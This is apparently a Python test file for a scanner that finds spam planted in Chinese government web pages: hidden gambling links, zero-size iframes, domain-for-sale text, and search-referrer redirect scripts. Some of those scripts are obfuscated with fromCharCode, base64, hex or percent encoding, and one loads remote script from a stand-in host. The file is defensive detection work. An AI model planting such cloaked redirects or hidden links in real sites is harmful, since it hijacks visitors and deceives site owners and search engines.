"""What was planted into a page, and what only looks like it."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from facts.document import Document
from facts.foreign_hosts import domain_of, dubious, host_of, stranger
from facts.hidden_content import HiddenContent
from facts.page_scripts import planted_scripts
from facts.spam_text import advertising, offers_domain, read_spam
from inspection.fetched import Page

URL = "http://www.test.gov.cn/dt/202103/t20210312_9012345.html"
LINK = '<a href="http://ad.example/">老虎机</a>'
WRITE = "<script>document.write"


def page(body: str, head: str = "") -> Document:
    html = f"<html><head>{head}<title>区某局</title></head><body><p>正文</p>{body}</body></html>"
    return Document(
        Page(URL, URL, 200, (("content-type", "text/html; charset=utf-8"),), html.encode(), datetime.now(UTC))
    )


@pytest.mark.parametrize(
    "style",
    [
        "display:none", "DISPLAY : none !important", "visibility:hidden", "position:absolute;left:-9999px",
        "position:fixed;top:-1200px", "text-indent:-9999px", "font-size:0", "font-size: 1px", "opacity:0",
        "height:0;overflow:hidden", "overflow:hidden;width:1px", "margin-left:-4000px", "background:#fff;color:#FFFFFF",
    ],
)  # fmt: skip
def test_one_advertising_link_out_of_sight_is_enough(style: str) -> None:
    found = HiddenContent.read(page(f'<div style="{style}"><p>{LINK}</p></div>'))
    assert [(link.host, link.text, link.hidden) for link in found.links] == [("ad.example", "老虎机", True)]


@pytest.mark.parametrize(
    "body",
    [
        LINK,  # one in sight may be a matter of taste
        f'<div style="left:-10px;height:20px;font-size:10px;opacity:0.9">{LINK}</div>',
        '<div style="display:none"><a href="http://shop.example/">特产商城</a></div>',
        '<div style="display:none"><a href="/dt/">老虎机</a><a href="http://m.test.gov.cn/">老虎机</a></div>',
        '<div style="display:none"><a href="http://www.other.gov.cn/">老虎机</a></div>',
        '<div style="display:none"><a href="http://news.qq.com/x">老虎机</a></div>',
        '<div style="display:none"><a href="http://news.example/">警方查获老虎机</a></div>',
        '<div style="display:none"><a href="http://sport.example/">棋牌</a></div>',
        '<div style="left:-2400px"><a href="http://sport.example/">全区老年人棋牌比赛落幕</a></div>',
    ],
)
def test_what_is_not_a_planted_link(body: str) -> None:
    assert HiddenContent.read(page(body)).links == ()


@pytest.mark.parametrize(
    ("head", "body"),
    [
        ("<style>.a{display:none}</style>", f'<div class="b a">{LINK}</div>'),
        ("<style>.x,#q9 { position:absolute; top:-5000px }</style>", f'<div id="q9">{LINK}</div>'),
        ("", f'<div id="z">{LINK}</div><script>document.getElementById("z").style.display="none"</script>'),
        ("", f"{WRITE}(\"<div style='display:none'>\")</script>{LINK}{WRITE}('</div>')</script>"),
        ("", f'<marquee width="1" height="1">{LINK}</marquee>'),
        ("", f"<p hidden>{LINK}</p>"),
    ],
)  # fmt: skip
def test_sheets_scripts_and_marquees_hide_too(head: str, body: str) -> None:
    assert [link.hidden for link in HiddenContent.read(page(body, head)).links] == [True]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("北京赛车_时时彩", ("北京赛车", "时时彩")),  # neither part advertises by itself, but the whole does
        ("北京赛车、时时彩", ("北京赛车", "时时彩")),
        ("区某局召开会议_时 时 彩 平 台", ("时时彩",)),
        ("ＰＫ１０计划", ("pk10",)),
        ("千家万户百家乐融融", ()),
        ("警惕时时彩平台", ()),
        ("公安局查处百家乐、老虎机", ()),
        ("福利彩票公益金", ()),
        ("青溪镇无码头、做爱心人", ()),
        ("加强对口支援交通建设", ()),
        ("中国—南亚博览会开幕", ()),
    ],
)
def test_which_titles_advertise(text: str, words: tuple[str, ...]) -> None:
    assert advertising(text) == words


def test_a_lawful_lottery_is_no_weak_word() -> None:
    assert read_spam("福彩开奖").innocent
    assert read_spam("彩票开奖").weak == ("彩票", "开奖")


@pytest.mark.parametrize(
    ("text", "offered"),
    [("This domain is for sale!", "domainisforsale"), ("该域名可转让，请联系", "该域名可转让"), ("域名管理办法", "")],
)
def test_which_texts_offer_a_domain(text: str, offered: str) -> None:
    assert offers_domain(text) == offered


def codes(text: str) -> str:
    return ",".join(str(ord(letter)) for letter in text)


MOVE = 'location.href="http://go.example/"'


@pytest.mark.parametrize(
    "script",
    [
        f"if(document.referrer.indexOf('baidu')>0){{{MOVE}}}",
        "var u='http://go.example/';if(/so\\.com/.test(document.referrer)){top.location=u;}",
        "if(document.referrer.match(/sogou/)){document.write('<script src=http://go.example/a.js></scr'+'ipt>')}",
        f"eval(String.fromCharCode({codes(MOVE)}))",
        f"var a=[{codes(MOVE)}],s='';for(var i in a)s+=String.fromCharCode(a[i]);eval(s)",
        "eval(atob('bG9jYXRpb24uaHJlZj0iaHR0cDovL2dvLmV4YW1wbGUvIg=='))",
        "eval('" + "".join(f"\\x{ord(letter):02x}" for letter in MOVE) + "')",
        "eval(unescape('" + "".join(f"%{ord(letter):02x}" for letter in MOVE) + "'))",
        f"if(navigator.userAgent.indexOf('spider')<0){{{MOVE}}}",
    ],
)
def test_planted_scripts(script: str) -> None:
    assert {found.host for found in planted_scripts(page(f"<script>{script}</script>"))} == {"go.example"}


@pytest.mark.parametrize(
    "script",
    [
        "if(document.referrer.indexOf('baidu')>0){location.href='/search/'}",
        "if(document.referrer.indexOf('http://www.baidu.com')>0){location.href='http://m.test.gov.cn/'}",
        "if(document.referrer.indexOf('baidu')>0){location.href='http://www.other.gov.cn/'}",
        "var e=['baidu','google'];var u='http://count.example/?r='+document.referrer+'&u='+location.href;",
        "if(location.href=='http://go.example/'){alert(document.referrer+'baidu')}",
        "document.write(unescape('%3Cscript src=%22http://count.example/c.js%22%3E%3C/script%3E'))",
        f"document.write(String.fromCharCode({codes('<a href=mailto:a@test.gov.cn>')}))",
        "atob('not base64 at all!!'); atob('====================')",
        "var s='\\x3cb\\x3e'",
        "eval(String.fromCharCode(0x110000,99999999999999,1,2,3))",
    ],
)
def test_scripts_that_move_nobody_away(script: str) -> None:
    assert planted_scripts(page(f"<script>{script}</script>")) == ()


@pytest.mark.parametrize(
    ("body", "bad", "doubtful"),
    [
        ('<iframe src="//x.planted.top/" width="0" height="0"></iframe>', 1, 0),
        ('<div style="display:none"><iframe src="http://www.bet365-x.example/"></iframe></div>', 1, 0),
        ('<iframe src="http://widget.example/" height="1"></iframe>', 0, 1),
        ('<iframe src="http://x.planted.top/" width="600" height="400"></iframe>', 0, 0),
        ('<iframe src="https://map.baidu.com/" style="display:none"></iframe><iframe name="up" hidden></iframe>', 0, 0),
    ],
)
def test_hidden_frames(body: str, bad: int, doubtful: int) -> None:
    found = HiddenContent.read(page(body))
    assert (len(found.frames), len(found.doubtful_frames)) == (bad, doubtful)


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("http://A.Example/x", "a.example"), ("//b.example", "b.example"), ("https://u:p@c.example:8080/", "c.example"),
        ("http:\\\\d.example\\", "d.example"), ("/x", ""), ("mailto:a@b.example", ""), ("javascript:void(0)", ""),
    ],
)  # fmt: skip
def test_hosts(address: str, host: str) -> None:
    assert host_of(address) == host


def test_whose_host_it_is() -> None:
    assert domain_of("a.b.test.gov.cn") == "test.gov.cn"
    assert domain_of("a.b.example") == "b.example"
    assert domain_of("61.128.0.10") == "61.128.0.10"
    assert stranger("ad.example", URL)
    assert not stranger("img.test.gov.cn", URL)
    assert not stranger("hm.baidu.com", URL)
    assert stranger("baidu.com.ad.example", URL)
    assert dubious("x.top")
    assert not dubious("www.desktop.example")


def test_a_page_full_of_brackets_is_read_in_time() -> None:
    script = "}('" + "\\\\" * 20_000 + "document.referrer baidu p,a,c,k,e unescape('" + "%" * 20_000
    assert planted_scripts(page(f"<script>{script}</script>")) == ()
    assert HiddenContent.read(page("<div style='display:none'>" * 3000 + LINK)).links


@pytest.mark.parametrize(
    "body",
    [
        f"<style>{'a' * 300_000}</style><p class='x'>{LINK}</p>",
        f"<div style='{'height:0;' * 50_000}'>{LINK}</div>",
        f"<script>document.referrer;baidu;{'location=x;' * 15_000}</script>",
        f"<script>unescape('{'%' * 190_000}</script>",
        f"<script>fromCharCode [{'10,' * 60_000}</script>",
        f"<script>p,a,c,k,e {'}(' * 90_000}</script>",
    ],
)
def test_hostile_pages_end_and_accuse_nobody(body: str) -> None:
    found = HiddenContent.read(page(body))
    assert found.scripts == ()


def test_an_endless_title_is_read_as_far_as_any_title_goes() -> None:
    assert advertising("_" * 1_000_000) == ()
    assert advertising("时时彩平台" + "_x" * 500_000) == ("时时彩",)
